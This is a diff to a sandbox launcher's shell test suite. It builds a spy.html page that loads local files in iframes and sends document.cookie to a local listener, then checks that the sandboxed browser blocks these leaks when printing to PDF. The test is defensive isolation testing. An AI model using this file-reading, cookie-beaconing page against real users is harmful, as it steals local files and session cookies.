@@ -93,20 +93,26 @@ spies() {
 	LISTENER=$!
 	wait_until 5 test -s "$TMP/port"
 	cat >spy.html <<-END
-		<!doctype html><iframe width=400 src="file://$theirs/notes.txt"></iframe><iframe width=400 src="file:///etc/hostname"></iframe>
+		<!doctype html><p>Dear reader</p><iframe width=400 src="file://$theirs/notes.txt"></iframe>
+		<iframe width=400 src="file:///etc/hostname"></iframe>
 		<img src="http://127.0.0.1:$(cat "$TMP/port")/pixel"><script>fetch('http://127.0.0.1:$(cat "$TMP/port")/beacon?' +
 		document.cookie, {mode: 'no-cors'})</script>
 	END
 	run outside --print-to-pdf="$WORK/outside.pdf" "file://$WORK/spy.html"
 	assert_status 0
 	[[ "$(pdftotext outside.pdf -)" == *hunter2* ]]
+	[ ! -s /etc/hostname ] || [[ "$(pdftotext outside.pdf -)" == *"$(cat /etc/hostname)"* ]]
 	grep -q /pixel "$TMP/asked-$LAUNCHER"
 	rm "$TMP/asked-$LAUNCHER"
 	run inside --print-to-pdf=inside.pdf spy.html
 	assert_status 0
+	[[ "$(pdftotext inside.pdf -)" == *'Dear reader'* ]]
 	[[ "$(pdftotext inside.pdf -)" != *hunter2* ]]
-	[[ "$(pdftotext inside.pdf -)" != *"$(hostname)"* ]]
+	[ ! -s /etc/hostname ] || [[ "$(pdftotext inside.pdf -)" != *"$(cat /etc/hostname)"* ]]
 	[ ! -e "$TMP/asked-$LAUNCHER" ]
+	run launch --ro "$theirs" -- chromium --print-to-pdf=shown.pdf "file://$WORK/spy.html"
+	assert_status 0
+	[[ "$(pdftotext shown.pdf -)" == *hunter2* ]]
 	kill "$LISTENER"
 	wait "$LISTENER" || :
 	LISTENER=
@@ -133,6 +139,7 @@ refusals() {
 	refuses_memory 512M -s cgroup.memory.max=256M
 	# Nothing that it leaves can be executed, here or in memory that has a name.
 	refuses sh -c 'cp /bin/true /tmp/true-$$ && /tmp/true-$$ && rm /tmp/true-$$ || exit 1'
+	assert_output 'Permission denied'
 	# The browser's own sandbox is refused, and says so: why --no-sandbox is there.
 	run launch -- /usr/lib/chromium/chromium --headless --disable-gpu --dump-dom about:blank
 	[ "$status" -ne 0 ]
